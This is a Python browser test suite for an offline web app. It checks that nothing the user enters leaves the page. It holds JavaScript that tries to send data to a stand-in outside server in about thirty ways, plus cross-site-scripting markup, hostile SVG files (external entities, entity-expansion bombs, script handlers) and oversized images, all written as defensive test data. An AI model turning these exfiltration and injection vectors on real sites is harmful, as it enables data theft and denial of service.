"""Nothing leaves the page: somebody tries to send, from every place where a script runs, and with every input."""

from __future__ import annotations

import json
import struct
import time
import zlib
from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote

import pytest

from cards.desk.fonts import fonts_needed
from cards.locations import bundled, shelves
from cards.page.build import LIST
from cards.page.program import Program, single_file
from tests.page.browsers import PROGRAMS, Page, Server
from tests.page.conftest import TODAY
from tests.page.test_offline import FACES, KEPT, LEFT, READY
from tests.page.whole_site import headers_of, whole_site

Browse = Callable[[str], Page]
Host = Callable[[Path | None], Server]

pytestmark = pytest.mark.full_only

NUMBER = "617-555-0100"
ORGANIZATION = "Lynn Neighbors"

SENT_BY_SCRIPTS = """
  fetch: () => fetch(to + "fetch"),
  blind: () => fetch(to + "blind", { mode: "no-cors", method: "POST", body: "x", keepalive: true }),
  request: () => { const sent = new XMLHttpRequest(); sent.open("POST", to + "request"); sent.send("x"); },
  socket: () => { new WebSocket(to.replace("http", "ws") + "socket"); },
  events: () => { new EventSource(to + "events"); },
  module: () => import(to + "module.mjs"),
  scripts: () => { importScripts(to + "scripts.js"); },
  worker: () => { new Worker(to + "worker.js"); },
  beacon: () => { navigator.sendBeacon(to + "beacon", "x"); },
"""

SENT_BY_ELEMENTS = """
  picture: () => { new Image().src = to + "picture"; },
  script: () => add("script", { src: to + "script.js" }),
  style: () => add("link", { rel: "stylesheet", href: to + "style.css" }),
  imported: () => { add("style", {}).textContent = `@import url(${to}imported.css);`; },
  ground: () => { add("p", {}).style.background = `url(${to}ground.png)`; },
  attribute: () => add("p", { style: `background: url(${to}attribute.png)` }),
  font: () => new FontFace("x", `url(${to}font.woff2)`).load(),
  sound: () => { new Audio(to + "sound.mp3").load(); },
  film: () => { add("video", { src: to + "film.mp4", poster: to + "poster.png" }).load(); },
  frame: () => add("iframe", { src: to + "frame" }),
  object: () => add("object", { data: to + "object" }),
  embed: () => add("embed", { src: to + "embed" }),
  later: () => add("link", { rel: "prefetch", href: to + "later" }),
  soon: () => add("link", { rel: "preload", as: "image", href: to + "soon" }),
  loaded: () => add("link", { rel: "modulepreload", href: to + "loaded.mjs" }),
  icon: () => add("link", { rel: "icon", href: to + "icon.png" }),
  drawing: () => { add("div", {}).innerHTML = `<svg><image href="${to}drawing.png"/></svg>`; },
  use: () => { add("div", {}).innerHTML = `<svg><use href="${to}use.svg#a"/></svg>`; },
  handler: () => { add("div", {}).innerHTML = `<img src="data:," onerror="new Image().src = '${to}handler'">`; },
  form: () => { add("form", { action: to + "form", method: "post", target: "_blank" }).submit(); },
  ping: () => { add("a", { href: "#x", ping: to + "ping" }).click(); },
  base: () => { add("base", { href: to }); add("img", { src: "base.png" }); },
"""

TRY = (
    """async (to, isPage) => {
  const add = (name, given) => {
    const made = document.createElement(name);
    for (const [key, value] of Object.entries(given)) made.setAttribute(key, value);
    (name === "link" || name === "base" ? document.head : document.body).append(made);
    return made;
  };
  const ways = {"""
    + SENT_BY_SCRIPTS
    + "...(isPage ? {"
    + SENT_BY_ELEMENTS
    + """} : {}) };
  for (const way of Object.values(ways)) {
    try { Promise.resolve(way()).catch(() => 0); } catch { /* refused at once */ }
  }
  await new Promise((end) => setTimeout(end, 1500));
}"""
)
"""Tries to send to an address in every way that a script has.

Chromium connects to the host of a frame or a form before it looks at the policy, but sends nothing.
"""

IN_A_WORKER = """async (code, to) => {
  const text = `(${code})(${JSON.stringify(to)}, false).then(() => postMessage("tried"))`;
  const worker = new Worker(URL.createObjectURL(new Blob([text], { type: "text/javascript" })));
  await new Promise((end) => { worker.onmessage = end; worker.onerror = end; });
}"""

IN_THE_SERVICE_WORKER = """async (to) => {
  const { active } = await navigator.serviceWorker.getRegistration();
  const { port1, port2 } = new MessageChannel();
  active.postMessage({ attack: to }, [port2]);
  await new Promise((end) => { port1.onmessage = end; });
}"""


@pytest.fixture(scope="module")
def site(build: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A site whose service worker tries to send when it is told to, and the page as one file with Spanish."""
    folder = tmp_path_factory.mktemp("private")
    whole_site(folder, build)
    own = (folder / "service-worker.js").read_text("utf-8")
    attack = (
        "addEventListener('message', (event) => { if (!event.data.attack) return;"
        " event.stopImmediatePropagation(); event.waitUntil("
        f"({TRY})(event.data.attack, false).then(() => event.ports[0].postMessage('tried'))); }}, true);\n"
    )
    (folder / "service-worker.js").write_text(attack + own, encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def one_file(build: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The page as one file with the fonts of Spanish."""
    files = {path.relative_to(build).as_posix(): path.read_bytes() for path in build.rglob("*") if path.is_file()}
    program = Program(json.loads(files[LIST])["build"], files)
    path = tmp_path_factory.mktemp("stick") / "rights-cards.html"
    path.write_bytes(single_file(shelves(None), TODAY, program, ["en", "es"]))
    assert fonts_needed((bundled(),), "es")
    return path


@pytest.mark.parametrize("name", PROGRAMS)
def test_the_attempts_reach_the_server_where_nothing_forbids_them(
    browse: Browse, host: Host, name: str, tmp_path: Path
) -> None:
    """Else the other tests could not fail."""
    (tmp_path / "index.html").write_text("<!doctype html><title>Open</title><body>", encoding="utf-8")
    elsewhere = host(None)
    server = host(tmp_path)
    from_a_page = {
        "fetch", "request", "socket", "events", "beacon", "picture", "script", "style", "imported", "drawing",
        "handler", "later", "form", "base",
    }  # fmt: skip
    in_a_worker = {"blind", "request", "socket", "scripts"}
    for call, names in (
        ((TRY, elsewhere.address, True), from_a_page),
        ((IN_A_WORKER, TRY, elsewhere.address), in_a_worker),
    ):
        elsewhere.forget()
        for _ in range(VISITS):
            page = browse(name)
            page.open(server.address)
            page.evaluate(*call)
            if not (missing := not_asked(elsewhere, names)):
                break
        assert not missing


VISITS = 8
"""How often a page is opened for its attempts: a busy browser may drop a prefetch, or a picture that nobody holds."""


def not_asked(server: Server, names: set[str]) -> set[str]:
    """Which of these a server was not asked for, after a wait of up to five seconds."""
    missing = names
    for _ in range(50):
        missing = names - {each.lstrip("/").split(".")[0].split("?")[0] for each in server.requests}
        if not missing:
            break
        time.sleep(0.1)
    return missing


@pytest.mark.parametrize("has_headers", [False, True], ids=["bare", "headers"])
@pytest.mark.parametrize("name", PROGRAMS)
def test_nothing_is_sent_from_a_site(site: Path, browse: Browse, host: Host, name: str, has_headers: bool) -> None:
    elsewhere = host(None)
    server = host(site)
    server.headers = headers_of(site) if has_headers else {}
    page = browse(name)
    for path in ("es/", "404.html", ""):
        page.open(server.address + path)
        page.evaluate(TRY, elsewhere.address, True)
        assert elsewhere.requests == [], path
    page.open(server.address)
    page.evaluate(IN_A_WORKER, TRY, elsewhere.address)
    assert elsewhere.requests == []
    if has_headers:  # nothing else binds a service worker
        page.wait("() => navigator.serviceWorker.ready.then(() => true)")
        page.evaluate(IN_THE_SERVICE_WORKER, elsewhere.address)
    assert elsewhere.requests == []


@pytest.mark.parametrize("name", PROGRAMS)
def test_nothing_is_sent_from_the_one_file(one_file: Path, browse: Browse, host: Host, name: str) -> None:
    elsewhere = host(None)
    page = browse(name)
    page.open(one_file.as_uri())
    page.wait("() => document.getElementById('offline').textContent === 'This file needs no connection.'")
    page.evaluate(IN_A_WORKER, TRY, elsewhere.address)
    page.evaluate(TRY, elsewhere.address, True)
    assert elsewhere.requests == []


def png(width: int, height: int) -> bytes:
    """A PNG that says it is so large, with a few bytes of pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(9999))) + chunk(b"IEND", b"")
    )


def logos(to: str) -> dict[str, bytes]:
    """Files by their names that try to send, to run something, or to use up memory."""
    svg = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"'
    inside = {
        "picture": f'><image href="{to}image.png" xlink:href="{to}xlink.png" width="9" height="9"/>',
        "use": f'><use href="{to}use.svg#a"/>',
        "style": f"><style>@import url({to}style.css); * {{ fill: url({to}fill.svg#a) }}</style><path d='M0 0h9v9z'/>",
        "font": f"><style>@font-face {{ font-family: x; src: url({to}x.woff) }}</style><text font-family='x'>a</text>",
        "script": f"><script>fetch('{to}script'); window.attacked = 1</script><path d='M0 0h9v9z'/>",
        "handler": f" onload=\"new Image().src = '{to}handler'; window.attacked = 1\"><path d='M0 0h9v9z'/>",
        "foreign": f'><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="{to}foreign"/></foreignObject>',
        "filter": f'><filter id="f"><feImage href="{to}filter.png"/></filter><path filter="url(#f)" d="M0 0h9v9z"/>',
        "huge": ' width="1000000000" height="1000000000"><path d="M0 0h9v9z"/>',
        "deep": ">" + "<g>" * 100_000 + "</g>" * 100_000,
        "many": ">" + "<path d='M0 0h9v9z'/>" * 200_000,
    }
    made = {f"{name}.svg": f"{svg}{text}</svg>".encode() for name, text in inside.items()}
    entity = "".join(f'<!ENTITY a{each} "{f"&a{each - 1};" * 10}">' for each in range(1, 10))
    made["entities.svg"] = f'<!DOCTYPE svg [<!ENTITY a0 "aaaaaaaaaa">{entity}]>{svg}><text>&a9;</text></svg>'.encode()
    made["outside.svg"] = f'<!DOCTYPE svg [<!ENTITY a SYSTEM "{to}entity">]>{svg}><text>&a;</text></svg>'.encode()
    made["renamed.png"] = made["script.svg"]
    made["wide.png"] = png(2_000_000_000, 2_000_000_000)
    made["large.png"] = png(60_000, 60_000)
    return made


def test_hostile_input_sends_and_runs_nothing(site: Path, browse: Browse, host: Host, tmp_path: Path) -> None:
    elsewhere = host(None)
    to = elsewhere.address
    markup = f'"\'><img src="{to}picture" onerror="attacked = 1"><script src="{to}script"></script>'
    values = {
        "languages": "es",
        "org": markup,
        "hotline": markup,
        "link": f"{to}link",
        "logo": f"{to}logo",
        "x": markup,
    }
    server = host(site)
    page = browse("chromium")
    page.size(1280, 900)
    page.open(f"{server.address}#" + "&".join(f"{key}={quote(value)}" for key, value in values.items()))
    page.wait("() => document.getElementById('problem-hotline').textContent")
    assert page.evaluate("() => document.getElementById('field-org').value") == markup
    pack = f'title = {json.dumps(markup)}\nlanguages = ["es", {json.dumps(markup)}]\norg = {json.dumps(markup)}\n'
    for name, content in {
        "pack.toml": pack.encode(),
        "deep.toml": b"a = " + b"[" * 90_000,
        "bytes.toml": b"\xff\0",
    }.items():
        (tmp_path / name).write_bytes(content)
        page.upload("#open-pack", tmp_path / name)
        page.wait("() => document.querySelector('#summary-list a, .problem:not([hidden])')")
    page.evaluate("() => { location.hash = 'org=' + 'x'.repeat(1000000); }")
    page.evaluate("() => { for (const each of document.querySelectorAll('details')) each.open = true; }")
    page.evaluate(
        """() => {
          for (const each of ["org", "hotline", "link"]) {
            const field = document.getElementById(`field-${each}`);
            field.value = "";
            field.dispatchEvent(new Event("input"));
          }
        }"""
    )
    for name, content in logos(to).items():
        (tmp_path / name).write_bytes(content)
        page.upload("#field-logo", tmp_path / name)
        page.wait("() => document.querySelector('[data-key=logo]').getAttribute('aria-busy') === null")
        said = page.evaluate(
            "() => [document.getElementById('problem-logo').innerText, document.querySelector('.logo-about').innerText]"
        )
        assert any(said), name
    assert elsewhere.requests == []
    assert page.evaluate("() => window.attacked === undefined && document.querySelectorAll('script[src]').length === 1")
    page.evaluate("() => document.querySelector('[data-t=logo-remove]').click()")
    page.type("#field-languages", "Spanish")  # the link had none
    page.press("Enter")
    page.wait(FACES)
    assert page.errors == []


@pytest.mark.parametrize("name", PROGRAMS)
def test_what_somebody_types_is_nowhere_but_in_the_form(site: Path, browse: Browse, host: Host, name: str) -> None:
    server = host(site)
    page = browse(name)
    page.size(1280, 900)
    page.open(server.address)
    page.type("#field-languages", "Spanish")
    page.press("Enter")
    page.click("#contact-own")
    page.type("#field-hotline", NUMBER)
    page.click("#part-own summary")
    page.type("#field-org", ORGANIZATION)
    page.wait(f"() => document.getElementById('spoken').textContent.includes('{ORGANIZATION}')")
    page.wait(READY)
    page.evaluate("() => { HTMLAnchorElement.prototype.click = () => undefined; }")
    page.click("#actions [data-act=download]")
    page.wait("() => document.querySelector('#results a')")
    told = page.evaluate(
        "async () => [location.href, document.title, JSON.stringify(history.state), document.cookie, document.referrer,"
        " JSON.stringify({ ...localStorage }), JSON.stringify({ ...sessionStorage }), window.name,"
        " ...(await caches.keys()), ...performance.getEntries().map((each) => each.name)].join('\\n')"
    )
    kept = {each.rsplit(" /", 1)[1] for each in page.evaluate(KEPT)}
    assert {each for each in kept if not (site / each).is_file()} == {"in-use.json"}
    for part in ("555", "0100", "Lynn", "Neighbors", "%22"):
        assert part not in told
        assert not any(part in each for each in server.requests)
    left = page.evaluate(LEFT)
    assert (left["databases"], left["storage"], left["cookies"]) == (0, 0, "")
    for attribute, value in (
        ("autocomplete", "off"),
        ("spellcheck", "false"),
    ):  # browsers keep or send what these allow
        loose = f"""() => [...document.querySelectorAll("input, textarea, select")]
          .filter((each) => !each.closest("[{attribute}={value}]")).map((each) => each.id)"""
        assert page.evaluate(loose) == ["page-language"]
    assert page.errors == []
